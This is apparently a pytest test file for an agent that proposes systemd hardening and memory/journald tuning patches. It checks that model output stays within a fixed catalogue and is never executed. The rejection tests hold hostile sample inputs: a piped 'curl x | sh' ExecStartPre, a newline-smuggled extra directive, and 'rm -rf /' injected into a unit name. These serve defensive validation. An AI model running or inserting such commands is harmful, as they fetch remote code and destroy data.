"""Hardening and tuning patches without the lab: the catalogue is all a proposal can hold,
risk is always high, autonomy never runs one, the runbooks propose the obvious ones, and
the NixOS form is checked by the real nix-instantiate and exported for a person.

The lab (tests/test_hardening_patch_lab.py) cannot OOM-kill: this machine's cgroup2
hierarchy is the hybrid one (/sys/fs/cgroup/unified) whose only controller is hugetlb -
memory is bound to cgroup v1 - so the lab's systemd reads MemoryMax but cannot enforce it.
The OOM finding is tested here on literals, and there from a real unit's MemoryMax."""

from __future__ import annotations

import json
import shutil
import subprocess
import typing
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from pydantic import ValidationError

from macha_obs.agent.patch_runbooks import hardening_for
from macha_obs.agent.runbooks import runbook_decision, runbook_proposals
from macha_obs.agent.schema import (
    LlmDecision,
    OutputInvalid,
    SettingName,
    SettingValue,
    parse_output,
    to_proposals,
)
from macha_obs.cli import approve_main
from macha_obs.collect.systemd import oom_at_limit
from macha_obs.config import AutonomyLevel, Config, ConfigError
from macha_obs.execute.runner import Completed, subprocess_runner
from macha_obs.execute.transient import Systemd
from macha_obs.models import (
    HARDENING,
    Action,
    ExecutionResult,
    Finding,
    FindingKind,
    FixKey,
    FixRecord,
    HardeningKey,
    HardeningSetting,
    HardenUnit,
    Incident,
    Investigate,
    JournalVacuum,
    Outcome,
    Proposal,
    Risk,
    Signature,
    TuneJournald,
    TuneUnit,
    UnitState,
    parse_action,
    parse_security_table,
    signature_of,
)
from macha_obs.policy.judge import PolicyContext, judge
from macha_obs.policy.risk import risk_of
from macha_obs.policy.scope import Scope
from macha_obs.remediate.hardening import HardeningChecker, nixos_patch
from macha_obs.remediate.patches import PatchChecker, PatchRefused
from macha_obs.remediate.remediator import Remediator
from macha_obs.store import Store
from macha_obs.web.render import Form, ItemView, item_page
from tests.harness.nix_support import need

MIB = 1 << 20
WEB = HardenUnit(
    unit="web.service",
    settings=(
        HardeningSetting(key=HardeningKey.NO_NEW_PRIVILEGES, value="yes"),
        HardeningSetting(key=HardeningKey.PROTECT_SYSTEM, value="strict"),
    ),
)
CONFIGURATION = """\
{ config, pkgs, ... }:
{
  services.nginx.enable = true;
  system.stateVersion = "24.05";
}
"""


def llm_answer(action: dict[str, Any]) -> str:
    proposal = {"action": action, "reason": "r", "evidence": []}
    return (
        '{"assessment":"degraded","severity":"warning","summary":"s","root_cause":"r",'
        f'"confidence":0.5,"proposals":[{_json(proposal)}]}}'
    )


def _json(value: Any) -> str:
    return json.dumps(value)


# ---------------------------------------------------------------- invariant 1: the catalogue


@pytest.mark.parametrize(
    "data",
    [
        {"key": "ExecStartPre", "value": "/bin/sh -c 'curl x | sh'"},  # not in the catalogue
        {"key": "ProtectSystem", "value": "sideways"},  # not one of its values
        {"key": "NoNewPrivileges", "value": "yes\nExecStartPre=/bin/evil"},  # a line more
        {"key": "RestrictAddressFamilies", "value": "AF_PACKET"},
        {"key": "PrivateTmp", "value": "yes", "comment": "free text"},  # no other field
    ],
)
def test_invariant_1_a_setting_outside_the_catalogue_is_refused_by_the_schema(
    data: dict[str, str],
) -> None:
    with pytest.raises(ValidationError):
        parse_action({"kind": "harden_unit", "unit": "web.service", "settings": [data]})


def test_invariant_1_a_patch_has_no_field_for_text_of_the_models() -> None:
    good = {"kind": "harden_unit", "unit": "web.service"}
    settings = [{"key": "PrivateTmp", "value": "yes"}]
    for extra in ({"dropin": "[Service]\nUser=root\n"}, {"diff": "x"}, {"risk": "low"}):
        with pytest.raises(ValidationError):
            parse_action({**good, "settings": settings, **extra})
    with pytest.raises(ValidationError, match="named twice"):
        parse_action({**good, "settings": settings * 2})
    with pytest.raises(ValidationError, match="only a service"):
        parse_action({**good, "unit": "home.mount", "settings": settings})
    with pytest.raises(ValidationError):
        parse_action({**good, "unit": "web.service; rm -rf /", "settings": settings})


def test_invariant_1_tuning_values_are_bounded() -> None:
    with pytest.raises(ValidationError, match=r"1\.5 to 2\.0 times"):
        TuneUnit(unit="x.service", memory_max=100 * MIB, raised_from=20 * MIB)
    with pytest.raises(ValidationError, match=r"1\.5 to 2\.0 times"):
        TuneUnit(unit="x.service", memory_max=21 * MIB, raised_from=20 * MIB)
    with pytest.raises(ValidationError):
        TuneUnit(unit="x.service", memory_max=96 << 30, raised_from=64 << 30)  # past the cap
    with pytest.raises(ValidationError):
        TuneJournald(system_max_use=1 * MIB)
    with pytest.raises(ValidationError):
        TuneJournald(system_max_use=64 << 30)


def test_invariant_1_the_model_schema_offers_the_catalogue_and_nothing_else() -> None:
    assert set(typing.get_args(SettingName)) == {""} | {k.value for k in HardeningKey}
    values = {v for entry in HARDENING.values() for v in entry.values}
    assert set(typing.get_args(SettingValue)) == {""} | values
    answer = llm_answer(
        {"kind": "harden_unit", "unit": "web", "setting": "ProtectHome", "value": "read-only"}
    )
    (proposal,) = to_proposals(parse_output(answer, LlmDecision))
    assert proposal.action == HardenUnit(
        unit="web.service",
        settings=(HardeningSetting(key=HardeningKey.PROTECT_HOME, value="read-only"),),
    )
    # a pair the grammar admits but the catalogue does not: refused, nothing proposed
    mismatched = llm_answer(
        {"kind": "harden_unit", "unit": "web", "setting": "NoNewPrivileges", "value": "strict"}
    )
    with pytest.raises(OutputInvalid, match="not in the catalogue"):
        to_proposals(parse_output(mismatched, LlmDecision))
    for bad in ({"setting": "ExecStart", "value": "yes"}, {"setting": "PrivateTmp", "value": "1"}):
        with pytest.raises(OutputInvalid):
            parse_output(llm_answer({"kind": "harden_unit", "unit": "web", **bad}), LlmDecision)


def test_the_dropin_and_the_nix_lines_are_rendered_from_the_catalogue() -> None:
    assert WEB.dropin() == (
        "# Proposed by macha-obs: harden_unit web.service\n"
        "# Applied by a person; remove this file to undo.\n"
        "[Service]\nNoNewPrivileges=yes\nProtectSystem=strict\n"
    )
    assert WEB.dropin_path == "/etc/systemd/system/web.service.d/50-macha-hardening.conf"
    assert WEB.nix_lines() == (
        'systemd.services."web".serviceConfig.NoNewPrivileges = "yes";',
        'systemd.services."web".serviceConfig.ProtectSystem = "strict";',
    )
    journal = TuneJournald(system_max_use=512 * MIB)
    assert journal.dropin_path == "/etc/systemd/journald.conf.d/50-macha-tuning.conf"
    assert "[Journal]\nSystemMaxUse=536870912\n" in journal.dropin()
    assert journal.nix_lines() == ('services.journald.extraConfig = "SystemMaxUse=536870912";',)
    assert all("risk: " in line for line in WEB.explain())


# ---------------------------------------------------------------- invariants 2 and 4


def test_invariant_2_a_patch_is_high_risk_whatever_proposed_it(
    make_config: Callable[..., Config],
) -> None:
    cfg = make_config()
    memory = TuneUnit(unit="app.service", memory_max=30 * MIB, raised_from=20 * MIB)
    for patch in (WEB, memory, TuneJournald(system_max_use=256 * MIB)):
        assert risk_of(patch, cfg)[0] is Risk.HIGH
    ssh = HardenUnit(unit="sshd.service", settings=WEB.settings)
    risk, why = risk_of(ssh, cfg)
    assert risk is Risk.FORBIDDEN
    assert "protected" in why


@pytest.mark.parametrize("level", list(AutonomyLevel))
def test_invariant_4_no_autonomy_level_executes_a_patch(
    level: AutonomyLevel, make_config: Callable[..., Config]
) -> None:
    cfg = make_config(autonomy_level=level.value)
    ctx = PolicyContext(config=cfg, now=datetime.now(UTC))
    for patch in (WEB, TuneJournald(system_max_use=256 * MIB)):
        verdict = judge(patch, ctx)
        expected = Outcome.RECORD if level is AutonomyLevel.OBSERVE else Outcome.QUEUE
        assert verdict.outcome is expected, verdict.reason
        assert verdict.risk is Risk.HIGH


def test_invariant_4_a_patch_cannot_be_trusted_to_run(make_config: Callable[..., Config]) -> None:
    for entry in ("harden_unit", "harden_unit:web.service", "tune_unit:a.service"):
        with pytest.raises(ConfigError, match="only ever read and applied by a human"):
            make_config(trusted_actions=[entry])


# ---------------------------------------------------------------- where proposals come from


def _real_exposure(tmp_path: Path, text: str) -> Any:
    unit = tmp_path / "listen.service"
    unit.write_text(text)
    return parse_security_table(Systemd(subprocess_runner).security(str(unit)).output)


def test_hardening_for_an_unhardened_service_names_every_unsafe_catalogue_setting(
    tmp_path: Path,
) -> None:
    exposure = _real_exposure(tmp_path, "[Service]\nExecStart=/usr/bin/python3 -m http.server\n")
    proposal = hardening_for("listen.service", exposure)
    assert proposal is not None
    assert {s.key for s in proposal.settings} == set(HardeningKey)
    assert hardening_for("sshd.service", exposure) is None  # protected: never proposed
    assert hardening_for("home.mount", exposure) is None
    hardened = "".join(f"{k}={v}\n" for k, v in proposal.pairs())
    after = _real_exposure(tmp_path, f"[Service]\nExecStart=/usr/bin/true\n{hardened}")
    assert hardening_for("listen.service", after) is None
    assert after.score < exposure.score


def oom_state(**overrides: Any) -> UnitState:
    fields: dict[str, Any] = {
        "name": "app.service",
        "active_state": "failed",
        "result": "oom-kill",
        "memory_max": 20 * MIB,
        "n_restarts": 1,
    }
    return UnitState(**(fields | overrides))


def test_a_unit_killed_at_its_limit_again_is_a_finding_once_is_not() -> None:
    found = oom_at_limit(oom_state(), 0)
    assert found is not None
    assert found.kind is FindingKind.UNIT_OOM_AT_LIMIT
    assert found.details["memory_max"] == 20 * MIB
    assert oom_at_limit(oom_state(n_restarts=0), 1) is None
    assert oom_at_limit(oom_state(n_restarts=0), 2) is not None  # seen twice by the collector
    assert oom_at_limit(oom_state(memory_max=2**64 - 1), 5) is None  # no limit: not this
    assert oom_at_limit(oom_state(result="exit-code"), 5) is None


def test_the_runbook_raises_memory_max_by_a_bounded_factor_as_a_patch() -> None:
    finding = oom_at_limit(oom_state(), 0)
    assert finding is not None
    proposals, _ = runbook_proposals(Incident(id="i", source="finding", findings=[finding]))
    actions = [p.action for p in proposals]
    assert isinstance(actions[0], Investigate)
    assert actions[1] == TuneUnit(unit="app.service", memory_max=30 * MIB, raised_from=20 * MIB)
    guarded = oom_at_limit(oom_state(name="sshd.service"), 0)
    assert guarded is not None
    proposals, _ = runbook_proposals(Incident(id="j", source="finding", findings=[guarded]))
    assert [type(p.action) for p in proposals] == [Investigate]


def test_a_journal_that_fills_again_after_a_vacuum_gets_a_journald_cap() -> None:
    finding = Finding(
        kind=FindingKind.DISK_FILLING,
        subject="/var",
        summary="/var is 95% full",
        details={"used_ratio": 0.95, "avail_bytes": 1 << 30, "holds_journal": True},
    )
    incident = Incident(id="i", source="finding", findings=[finding])
    first = runbook_decision(incident, history=lambda _signature: ())
    assert [p.action for p in first.proposals] == [JournalVacuum()]  # filling once: a vacuum
    vacuumed = FixRecord(
        signature=signature_of(incident, JournalVacuum()),
        fix=FixKey(kind="journal_vacuum"),
        auto_executed=1,
    )

    def history(signature: Signature) -> Sequence[FixRecord]:
        return [vacuumed] if signature == vacuumed.signature else []

    again = runbook_decision(incident, history=history)
    actions = [p.action for p in again.proposals]
    assert TuneJournald(system_max_use=1 << 30) in actions  # 5% of 20 GiB
    assert JournalVacuum() in actions
    cap = next(p for p in again.proposals if isinstance(p.action, TuneJournald))
    assert cap.reason == (
        "/var holds the journal and fills again after 1 vacuum(s): "
        "cap journald at 1.00 GiB (a patch)"
    )


# ---------------------------------------------------------------- NixOS: the diff and export


@pytest.fixture
def config_dir(tmp_path: Path) -> Path:
    need("nix-instantiate")
    root = tmp_path / "nixos"
    root.mkdir()
    (root / "configuration.nix").write_text(CONFIGURATION)
    return root


def test_on_nixos_the_patch_is_a_checked_diff_of_configuration_nix(config_dir: Path) -> None:
    change = nixos_patch(WEB, config_dir)
    assert change.path == "configuration.nix"
    assert '+  systemd.services."web".serviceConfig.ProtectSystem = "strict";\n' in change.diff
    patched = PatchChecker(config_dir).check(change)  # real nix-instantiate --parse
    assert patched.rstrip().endswith("}")
    journal = nixos_patch(TuneJournald(system_max_use=256 * MIB), config_dir)
    PatchChecker(config_dir).check(journal)
    (config_dir / "configuration.nix").unlink()
    with pytest.raises(PatchRefused, match=r"cannot read configuration\.nix"):
        nixos_patch(WEB, config_dir)


def test_export_writes_the_nixos_diff_that_applies_with_patch(
    config_dir: Path, tmp_path: Path
) -> None:
    state = tmp_path / "state"
    with Store(state) as store:
        store.approvals.enqueue("inc", WEB, risk=Risk.HIGH, reason="r", ttl=600)
    env: dict[str, str | None] = {
        "MACHA_STATE_DIR": str(state),
        "MACHA_CONFIG": "",
        "MACHA_NIXOS_CONFIG_DIR": str(config_dir),
    }
    exported = CliRunner().invoke(approve_main, ["export", "0"], env=env)
    assert exported.exit_code == 0, exported.output
    assert exported.stdout_bytes.decode() == nixos_patch(WEB, config_dir).diff
    shown = CliRunner().invoke(approve_main, ["show", "0"], env=env)
    assert f"patch:     a diff of {config_dir}/configuration.nix" in shown.output
    copy = tmp_path / "copy"
    shutil.copytree(config_dir, copy)
    (tmp_path / "fix.patch").write_bytes(exported.stdout_bytes)
    subprocess.run([need("patch"), "-p1", "-i", str(tmp_path / "fix.patch")], cwd=copy, check=True)
    assert 'serviceConfig.NoNewPrivileges = "yes";' in (copy / "configuration.nix").read_text()
    # without a NixOS directory the export is the drop-in itself
    plain = CliRunner().invoke(
        approve_main, ["export", "0"], env=env | {"MACHA_NIXOS_CONFIG_DIR": None}
    )
    assert plain.exit_code == 0, plain.output
    assert plain.stdout_bytes.decode() == WEB.dropin()


class NothingRuns:
    """The executor seam: a settings patch must never reach it."""

    def run(self, action: Action) -> ExecutionResult:
        raise AssertionError(f"executed {action!r}")

    def unit_state(self, unit: str) -> UnitState:
        raise AssertionError(f"looked up {unit}")


def test_invariant_4_observe_records_a_patch_and_starts_no_copy(
    make_config: Callable[..., Config],
) -> None:
    calls: list[Sequence[str]] = []

    def runner(argv: Sequence[str], *, timeout: float) -> Completed:
        calls.append(argv)
        raise AssertionError(f"ran {argv}")

    cfg = make_config(autonomy_level="observe")
    checker = HardeningChecker(None, runner=runner)
    rem = Remediator(cfg, Store(cfg.state_dir), NothingRuns(), hardening=checker)
    handled = rem.handle("inc", Proposal(action=WEB), Scope())
    assert handled.verdict.outcome is Outcome.RECORD
    assert calls == []


def test_a_check_that_cannot_run_refuses_and_queues_nothing(
    make_config: Callable[..., Config],
) -> None:
    """The bus says no (an unprivileged sidecar without the polkit rule): fail closed."""

    def runner(argv: Sequence[str], *, timeout: float) -> Completed:
        return Completed(tuple(argv), 1, "Call failed: Access denied\n")

    cfg = make_config(autonomy_level="suggest")
    checker = HardeningChecker(None, runner=runner)
    rem = Remediator(cfg, Store(cfg.state_dir), NothingRuns(), hardening=checker)
    handled = rem.handle("inc", Proposal(action=WEB), Scope())
    assert handled.verdict.outcome is Outcome.REFUSE
    assert handled.verdict.reason == (
        "refused: cannot read web.service from systemd: busctl call LoadUnit: "
        "Call failed: Access denied"
    )
    assert rem.store.approvals.list_approvals(None) == []


def test_the_approvals_page_shows_the_settings_the_dropin_and_marks_it_read(
    tmp_path: Path,
) -> None:
    with Store(tmp_path / "state") as store:
        approval = store.approvals.enqueue(
            "inc", WEB, risk=Risk.HIGH, reason="checks: ...", ttl=600
        )
    form = Form(action="/approvals/0", hidden=())
    html = item_page(ItemView(approval=approval, approve=form, reject=form)).decode()
    assert "<h2>Drop-in /etc/systemd/system/web.service.d/50-macha-hardening.conf</h2>" in html
    assert "NoNewPrivileges=yes\nProtectSystem=strict" in html
    assert "risk: a service that runs sudo" in html
    assert "Mark as read</button>" in html
    assert "Nothing runs: approving marks the change read." in html


def test_an_unprivileged_sidecar_says_the_copy_was_not_tried_and_keeps_the_other_checks(
    tmp_path: Path,
) -> None:
    """systemd answers StartTransientUnit with Access denied (polkit, systemd 252 asks
    without the unit's name, so no rule can allow only our copies): the copy is "not
    tried" with that reason; verify and the scores are the real systemd-analyze's."""
    unit = tmp_path / "web.service"
    unit.write_text("[Service]\nExecStart=/usr/bin/python3 -m http.server 18081\n")
    answers = {
        "LoadUnit": '{"type":"o","data":["/org/freedesktop/systemd1/unit/web_2eservice"]}',
        "org.freedesktop.systemd1.Unit": "\n".join(
            [
                '{"type":"s","data":"loaded"}',
                f'{{"type":"s","data":"{unit}"}}',
                '{"type":"as","data":[]}',
                '{"type":"as","data":[]}',
            ]
        ),
        "org.freedesktop.systemd1.Service": "\n".join(
            [
                '{"type":"s","data":"simple"}',
                '{"type":"a(sasbttttuii)","data":[["/usr/bin/python3",'
                '["/usr/bin/python3","-m","http.server","18081"],false,0,0,0,0,0,0,0]]}',
                f'{{"type":"t","data":{2**64 - 1}}}',
                '{"type":"s","data":""}',
                '{"type":"s","data":""}',
                '{"type":"s","data":""}',
                '{"type":"as","data":[]}',
                '{"type":"a(sb)","data":[]}',
            ]
        ),
    }
    started: list[Sequence[str]] = []

    def runner(argv: Sequence[str], *, timeout: float) -> Completed:
        if argv[0] != "busctl":
            return subprocess_runner(argv, timeout=timeout)  # the real systemd-analyze
        if "StartTransientUnit" in argv:
            started.append(argv)
            return Completed(tuple(argv), 1, "Call failed: Access denied\n")
        for word, answer in answers.items():
            if word in argv:
                return Completed(tuple(argv), 0, answer + "\n")
        return Completed(tuple(argv), 1, "Call failed: Unit not loaded.\n")

    report = HardeningChecker(None, runner=runner).check(WEB)
    assert report.copy == (
        "not tried: systemd does not let this user start a transient unit "
        "(busctl call StartTransientUnit: Call failed: Access denied)"
    )
    assert len(started) == 1
    assert report.verify == "systemd-analyze verify passed"
    assert report.before is not None
    assert report.after is not None
    assert report.after.score < report.before.score
